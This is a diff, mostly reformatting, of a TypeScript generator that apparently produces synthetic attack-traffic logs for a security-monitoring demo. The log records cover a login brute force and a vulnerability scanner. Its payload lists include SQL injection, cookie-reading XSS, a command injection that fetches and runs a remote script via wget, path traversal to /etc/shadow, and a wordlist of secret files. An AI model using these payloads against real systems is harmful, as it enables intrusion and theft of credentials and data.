@@ -4,14 +4,49 @@ import { DEMO } from '../model';
 
 const SCAN_PREFIXES = ['', '/admin', '/api', '/api/v1', '/backup', '/old', '/test', '/dev', '/static', '/cgi-bin'];
 const SCAN_WORDS = [
-  '.env', '.git/config', '.git/HEAD', '.svn/entries', '.htaccess', '.DS_Store', 'config.php', 'config.json',
-  'config.yml', 'phpinfo.php', 'info.php', 'wp-login.php', 'wp-config.php.bak', 'xmlrpc.php', 'backup.sql',
-  'db.sql', 'dump.sql', 'database.zip', 'site.tar.gz', 'web.config', 'server-status', 'actuator/env',
-  'actuator/heapdump', 'swagger.json', 'openapi.yaml', 'graphql', 'console', 'debug/pprof', 'phpmyadmin/index.php',
-  'jmx-console', 'manager/html', 'login.action', 'id_rsa', 'credentials.json', 'docker-compose.yml',
+  '.env',
+  '.git/config',
+  '.git/HEAD',
+  '.svn/entries',
+  '.htaccess',
+  '.DS_Store',
+  'config.php',
+  'config.json',
+  'config.yml',
+  'phpinfo.php',
+  'info.php',
+  'wp-login.php',
+  'wp-config.php.bak',
+  'xmlrpc.php',
+  'backup.sql',
+  'db.sql',
+  'dump.sql',
+  'database.zip',
+  'site.tar.gz',
+  'web.config',
+  'server-status',
+  'actuator/env',
+  'actuator/heapdump',
+  'swagger.json',
+  'openapi.yaml',
+  'graphql',
+  'console',
+  'debug/pprof',
+  'phpmyadmin/index.php',
+  'jmx-console',
+  'manager/html',
+  'login.action',
+  'id_rsa',
+  'credentials.json',
+  'docker-compose.yml',
 ];
 
-const SQLI = ["1' OR '1'='1", '1 UNION SELECT username,password FROM users--', "1; DROP TABLE users--", "1' AND SLEEP(5)--"];
+const SQLI = [
+  "1' OR '1'='1",
+  '1 UNION SELECT username,password FROM users--',
+  '1; DROP TABLE users--',
+  "1' AND SLEEP(5)--",
+];
 const XSS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.cookie)>', "javascript:alert('x')"];
 const RCE = [';cat /etc/passwd', '$(id)', '|wget http://198.51.100.9/x.sh|sh', '`uname -a`'];
 const TRAVERSAL = ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//windows/win.ini'];
@@ -20,7 +55,14 @@ const TRAVERSAL = ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '...
 export function bruteForce(b: Builder, nodeOf: () => string): void {
   const rng = b.rng;
   const span = b.end - b.start;
-  const c: Conn = { host: DEMO.apiHost, app: 'public-api', client_ip: DEMO.bruteForceIp, user_agent: DEMO.bruteForceUa, node: nodeOf(), protocol: 'HTTP/1.1' };
+  const c: Conn = {
+    host: DEMO.apiHost,
+    app: 'public-api',
+    client_ip: DEMO.bruteForceIp,
+    user_agent: DEMO.bruteForceUa,
+    node: nodeOf(),
+    protocol: 'HTTP/1.1',
+  };
   const failures = 230;
   const blockedAfter = 40;
   const total = failures + blockedAfter;
@@ -30,28 +72,40 @@ export function bruteForce(b: Builder, nodeOf: () => string): void {
   for (let k = 0; k < total; k++) {
     const flagged = k >= 60;
     if (k < failures) {
-      b.add('brute_force', t, c, {
-        method: 'POST',
-        path: DEMO.loginPath,
-        status: 401,
-        endpoint: DEMO.loginPath,
-        duration_ms: rng.lognormal(110, 0.25, 40, 600),
-        request_bytes: rng.int(380, 460),
-        response_bytes: rng.int(60, 90),
-        attacks: flagged ? [{ type: 'brute_force', blocked: false, rule: 'bf-login-20-per-min' }] : undefined,
-      }, 'write');
+      b.add(
+        'brute_force',
+        t,
+        c,
+        {
+          method: 'POST',
+          path: DEMO.loginPath,
+          status: 401,
+          endpoint: DEMO.loginPath,
+          duration_ms: rng.lognormal(110, 0.25, 40, 600),
+          request_bytes: rng.int(380, 460),
+          response_bytes: rng.int(60, 90),
+          attacks: flagged ? [{ type: 'brute_force', blocked: false, rule: 'bf-login-20-per-min' }] : undefined,
+        },
+        'write',
+      );
     } else {
-      b.add('brute_force', t, c, {
-        method: 'POST',
-        path: DEMO.loginPath,
-        status: 403,
-        endpoint: DEMO.loginPath,
-        duration_ms: rng.lognormal(1.5, 0.3, 0.3, 10),
-        request_bytes: rng.int(380, 460),
-        response_bytes: rng.int(150, 200),
-        attacks: [{ type: 'brute_force', blocked: true, rule: 'bf-login-20-per-min' }],
-        blocked: true,
-      }, 'error');
+      b.add(
+        'brute_force',
+        t,
+        c,
+        {
+          method: 'POST',
+          path: DEMO.loginPath,
+          status: 403,
+          endpoint: DEMO.loginPath,
+          duration_ms: rng.lognormal(1.5, 0.3, 0.3, 10),
+          request_bytes: rng.int(380, 460),
+          response_bytes: rng.int(150, 200),
+          attacks: [{ type: 'brute_force', blocked: true, rule: 'bf-login-20-per-min' }],
+          blocked: true,
+        },
+        'error',
+      );
     }
     t += rng.int(1_000, 5_000) * scale;
   }
@@ -61,7 +115,14 @@ export function bruteForce(b: Builder, nodeOf: () => string): void {
 export function scanner(b: Builder, nodeOf: () => string): void {
   const rng = b.rng;
   const span = b.end - b.start;
-  const c: Conn = { host: DEMO.apiHost, app: 'public-api', client_ip: DEMO.scannerIp, user_agent: DEMO.scannerUa, node: nodeOf(), protocol: 'HTTP/1.1' };
+  const c: Conn = {
+    host: DEMO.apiHost,
+    app: 'public-api',
+    client_ip: DEMO.scannerIp,
+    user_agent: DEMO.scannerUa,
+    node: nodeOf(),
+    protocol: 'HTTP/1.1',
+  };
   const shop: Conn = { ...c, host: DEMO.shopHost, app: 'shop' };
   const scale = Math.min(1, (span * 0.25) / (600 * 1_500));
   let t = b.start + span * 0.7;
@@ -73,14 +134,20 @@ export function scanner(b: Builder, nodeOf: () => string): void {
   for (const path of paths) {
     const blocked = rng.chance(0.15);
     const found = !blocked && rng.chance(0.03);
-    b.add('scanner', t, rng.chance(0.7) ? c : shop, {
-      method: rng.chance(0.9) ? 'GET' : 'HEAD',
-      path,
-      status: blocked ? 403 : found ? 200 : 404,
-      attacks: [{ type: 'scanner', blocked, rule: 'scanner-ua-sqlmap' }],
-      blocked,
-      duration_ms: blocked ? rng.lognormal(1.2, 0.3, 0.2, 8) : undefined,
-    }, 'error');
+    b.add(
+      'scanner',
+      t,
+      rng.chance(0.7) ? c : shop,
+      {
+        method: rng.chance(0.9) ? 'GET' : 'HEAD',
+        path,
+        status: blocked ? 403 : found ? 200 : 404,
+        attacks: [{ type: 'scanner', blocked, rule: 'scanner-ua-sqlmap' }],
+        blocked,
+        duration_ms: blocked ? rng.lognormal(1.2, 0.3, 0.2, 8) : undefined,
+      },
+      'error',
+    );
     t += rng.int(100, 700) * scale;
   }
   // Phase 2: injection payloads on real endpoints.
@@ -100,28 +167,46 @@ export function scanner(b: Builder, nodeOf: () => string): void {
     const [ep, param] = rng.pick(targets);
     const [type, payloads, rulePrefix] = rng.pick(kinds);
     const blocked = rng.chance(0.55);
-    b.add('scanner', t, c, {
-      method: rng.chance(0.8) ? 'GET' : 'POST',
-      path: `${ep}?${param}=${encodeURIComponent(rng.pick(payloads))}`,
-      status: blocked ? 403 : rng.weighted([[400, 5], [200, 3], [500, 1]] as const),
-      endpoint: ep,
-      attacks: [{ type, blocked, rule: `${rulePrefix}${rng.int(100, 199)}` }],
-      blocked,
-      duration_ms: blocked ? rng.lognormal(1.5, 0.3, 0.2, 8) : rng.lognormal(60, 0.8, 5, 5_000),
-    }, blocked ? 'error' : 'api');
+    b.add(
+      'scanner',
+      t,
+      c,
+      {
+        method: rng.chance(0.8) ? 'GET' : 'POST',
+        path: `${ep}?${param}=${encodeURIComponent(rng.pick(payloads))}`,
+        status: blocked
+          ? 403
+          : rng.weighted([
+              [400, 5],
+              [200, 3],
+              [500, 1],
+            ] as const),
+        endpoint: ep,
+        attacks: [{ type, blocked, rule: `${rulePrefix}${rng.int(100, 199)}` }],
+        blocked,
+        duration_ms: blocked ? rng.lognormal(1.5, 0.3, 0.2, 8) : rng.lognormal(60, 0.8, 5, 5_000),
+      },
+      blocked ? 'error' : 'api',
+    );
     step();
   }
   // Phase 3: path traversal on the static file route.
   for (let k = 0; k < 40; k++) {
     const blocked = rng.chance(0.6);
     const payload = rng.pick(TRAVERSAL);
-    b.add('scanner', t, shop, {
-      method: 'GET',
-      path: `/static/download?file=${encodeURIComponent(payload)}`,
-      status: blocked ? 403 : rng.chance(0.8) ? 400 : 200,
-      attacks: [{ type: 'path_traversal', blocked, rule: 'ptrav-dotdot' }],
-      blocked,
-    }, blocked ? 'error' : 'api');
+    b.add(
+      'scanner',
+      t,
+      shop,
+      {
+        method: 'GET',
+        path: `/static/download?file=${encodeURIComponent(payload)}`,
+        status: blocked ? 403 : rng.chance(0.8) ? 400 : 200,
+        attacks: [{ type: 'path_traversal', blocked, rule: 'ptrav-dotdot' }],
+        blocked,
+      },
+      blocked ? 'error' : 'api',
+    );
     step();
   }
 }
